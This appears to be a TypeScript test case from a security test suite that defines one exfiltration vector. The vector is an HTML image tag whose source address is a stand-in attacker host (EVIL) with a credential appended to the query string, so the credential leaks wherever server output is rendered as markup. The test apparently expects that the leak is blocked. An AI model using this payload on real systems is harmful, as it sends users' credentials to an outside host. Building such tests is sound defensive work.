import { EVIL } from '../../suite/target';
import { refusing, testAndWait } from '../../suite/test-call';
import type { Vector } from '../../suite/vector';

/** An image whose address is the echoed credential, where the words of a server are shown as markup. */
export default {
  run: (stage) =>
    testAndWait(
      stage,
      refusing((credential) => `<img src='${EVIL}${stage.path}?${encodeURIComponent(credential)}'>`),
    ),
  arrives: [],
} satisfies Vector;
